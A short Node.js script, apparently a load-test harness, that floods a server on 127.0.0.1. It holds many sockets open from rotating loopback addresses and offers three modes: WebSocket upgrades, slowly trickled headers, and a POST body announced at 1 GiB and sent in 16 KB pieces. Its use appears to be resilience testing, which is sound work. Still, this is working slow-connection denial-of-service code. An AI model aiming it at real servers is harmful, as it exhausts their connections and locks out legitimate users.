// One attacker of the flood: node flood.mjs KIND PORT COUNT PER_SECOND NET. It keeps COUNT sockets open, each from an
// address of its own from 127.NET.0.0 on, says who it is on none of them, makes no more than PER_SECOND anew, also for
// those that are closed on it, and ends with its standard input.
import { connect } from 'node:net'

const [kind, port, count, perSecond, net] = [process.argv[2], ...process.argv.slice(3).map(Number)]
const [headerMs, bodyMs, crumb, announced] = [1_000, 100, Buffer.alloc(16 * 1024, 'a'), 1024 ** 3]
const head = (line) => `${line}\r\nHost: 127.0.0.1:${port}\r\n`
const sockets = new Set()
const tally = { opened: 0, held: 0, most: 0, sentBytes: 0 }

/** What is said at once, and what is added for as long as the socket is open. */
const kinds = {
  upgrade: { first: `${head('GET / HTTP/1.1')}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n` },
  headers: { first: head('GET / HTTP/1.1'), more: 'x-slow: header\r\n', everyMs: headerMs },
  body: { first: `${head('POST /rpc HTTP/1.1')}Content-Type: application/json\r\nContent-Length: ${announced}\r\n\r\n{"method":"`, more: crumb, everyMs: bodyMs },
}
const { first, more, everyMs } = kinds[kind]

/** A million of them: none comes back while it could still be remembered. */
const addressOf = (n) => `127.${net + ((n >> 16) & 15)}.${(n >> 8) & 255}.${n & 255}`

function say(socket, what) {
  if (socket.writableNeedDrain) return
  socket.write(what)
  tally.sentBytes += what.length
}

function attack() {
  const socket = connect({ port, host: '127.0.0.1', localAddress: addressOf(tally.opened++) })
  sockets.add(socket)
  socket.on('connect', () => {
    tally.most = Math.max(tally.most, ++tally.held)
    socket.once('close', () => tally.held--)
    socket.write(first)
  })
  socket.on('error', () => {})
  socket.on('close', () => sockets.delete(socket))
  socket.resume()
}

const began = performance.now()
setInterval(() => {
  const due = (performance.now() - began) / 1000 * perSecond
  while (sockets.size < count && tally.opened < due) attack()
}, 10)
if (more) setInterval(() => { for (const socket of sockets) if (!socket.connecting) say(socket, more) }, everyMs)

process.stdin.resume().on('end', () => {
  console.log(JSON.stringify(tally))
  process.exit()
})
console.log('attacking')
